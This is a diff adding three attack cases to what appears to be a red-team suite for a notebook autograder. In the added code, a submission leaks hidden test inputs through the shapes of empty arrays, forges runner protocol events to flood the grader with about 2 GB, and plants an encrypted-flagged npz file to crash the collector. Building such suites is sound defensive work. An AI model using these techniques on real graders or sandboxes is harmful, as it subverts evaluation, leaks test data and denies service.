@@ -384,6 +384,119 @@ def probes_the_host_04():
     )
 
 
+LEAK_SHAPE = r"""
+def l1_penalty(theta):
+    import numpy as np
+    t = np.ravel(np.asarray(theta, dtype=float))
+    if t.size == 4 and t[0] == 1.0:  # the public case (its input is in the feedback): answer it
+        return float(np.sum(np.abs(t)))
+    # A hidden case: its input spelled in the *shape* of an empty answer. An array with a 0
+    # dimension holds no values (no size cap applies), every other dimension is an integer of the
+    # student's choice, numpy only asks that their product times 8 stays under 2**63. The feedback's
+    # "wrong shape: got (0, a, b, n), expected ()" carries two inputs to 6 decimals and the size.
+    v = list(t[:2]) + [0.0] * (2 - min(2, t.size))
+    return np.zeros((0, 1 + round((v[0] + 50) * 1e6), 1 + round((v[1] + 50) * 1e6), 1 + min(t.size, 30)))
+"""
+
+
+@attack
+def leaks_hidden_inputs_in_shapes_05():
+    """05 solution whose l1_penalty returns an empty array whose dimensions spell its input."""
+    return replace_def(load("05_regularisation"), "l1_penalty", LEAK_SHAPE)
+
+
+FLOOD_EVENTS = r"""
+# FORGER. The runner's event pipe is open in this very process (round 3 saw it as fd 4). The
+# supervisor relays any event that follows the protocol's order, and the grader keeps every relayed
+# event, whole, until the run ends: end this cell, then start and end each later (empty) cell
+# ourselves, each event carrying ~250 KB. The cells' indices are in the job's in/cells.json.
+import glob, json, os
+fds = []
+for f in os.listdir("/proc/self/fd"):
+    try:
+        if int(f) > 2 and os.readlink(f"/proc/self/fd/{f}").startswith("pipe:"):
+            fds.append(int(f))
+    except OSError:
+        pass
+spec = next(json.load(open(p)) for p in ["../in/cells.json", "in/cells.json", *glob.glob("/**/in/cells.json")] if os.path.exists(p))
+indices = [c["index"] for c in spec["cells"]]
+mine = next(c["index"] for c in spec["cells"] if "FORGER" in c["source"])
+pad = "x" * (250 * 1024)
+
+
+def send(item, kind):
+    line = (json.dumps({"item": item, "event": kind, "status": "ok", "pad": pad}) + "\n").encode()
+    while line:
+        line = line[os.write(fds[0], line):]
+
+
+send(f"cell:{mine}", "end")
+for i in indices[indices.index(mine) + 1:]:
+    send(f"cell:{i}", "start")
+    send(f"cell:{i}", "end")
+"""
+
+
+def flood_events(cells: int) -> dict:
+    nb = load("05_regularisation", stub=True)
+    nb["cells"] = [code(FLOOD_EVENTS.replace("CELLS", str(cells)))] + [code("pass") for _ in range(cells)]
+    return nb
+
+
+@attack
+def floods_events_05():
+    """A notebook of 4,000 empty cells whose first cell forges every later cell's events, 250 KB each:
+    about 2 GB the grader keeps in memory (the protocol allows up to 100,000 events: 25 GB)."""
+    return flood_events(4000)
+
+
+CRASH_COLLECT = r"""
+# The known limit (runtime/supervisor.py): a cell can play the runner's side of the protocol to its
+# end and hand over outputs of its own making. Here the outputs are an arrays.npz whose one member
+# is flagged as encrypted (or needs a newer zip version): zipfile raises RuntimeError
+# (NotImplementedError) where the collector expects ValueError, OSError or BadZipFile.
+import io, json, os
+import numpy as np
+fd = None
+for f in os.listdir("/proc/self/fd"):
+    try:
+        if int(f) > 2 and os.readlink(f"/proc/self/fd/{f}").startswith("pipe:"):
+            fd = int(f)
+    except OSError:
+        pass
+job = "/job" if os.path.exists("/job/in/calls.json") else os.path.dirname(os.getcwd())
+calls = [c["id"] for c in json.load(open(f"{job}/in/calls.json"))]
+cells = [c["index"] for c in json.load(open(f"{job}/in/cells.json"))["cells"]]
+buf = io.BytesIO()
+np.savez(buf, a=np.zeros(3))
+data = bytearray(buf.getvalue())
+data[data.rfind(b"PK\x01\x02") + 8] |= 1  # "encrypted", in the central directory
+data[data.find(b"PK\x03\x04") + 6] |= 1  # and in the local header
+with open(f"{job}/out/arrays.npz", "wb") as fh:
+    fh.write(bytes(data))
+with open(f"{job}/out/probe.json", "w") as fh:
+    json.dump({"results": {c: {"ok": True, "value": {"$array": "a"}} for c in calls}}, fh)
+
+
+def send(item, kind, **extra):
+    os.write(fd, (json.dumps({"item": item, "event": kind, **extra}) + "\n").encode())
+
+
+send(f"cell:{cells[-1]}", "end", status="ok")
+for c in calls:
+    send(f"probe:{c}", "start")
+    send(f"probe:{c}", "end")
+send("runner", "outputs")
+os._exit(0)
+"""
+
+
+@attack
+def crashes_the_collector_05():
+    """05 solution whose last cell ends the protocol itself and leaves an arrays.npz flagged encrypted."""
+    return with_cells(load("05_regularisation"), last=[CRASH_COLLECT])
+
+
 if __name__ == "__main__":
     out = Path(sys.argv[1])
     out.mkdir(parents=True, exist_ok=True)
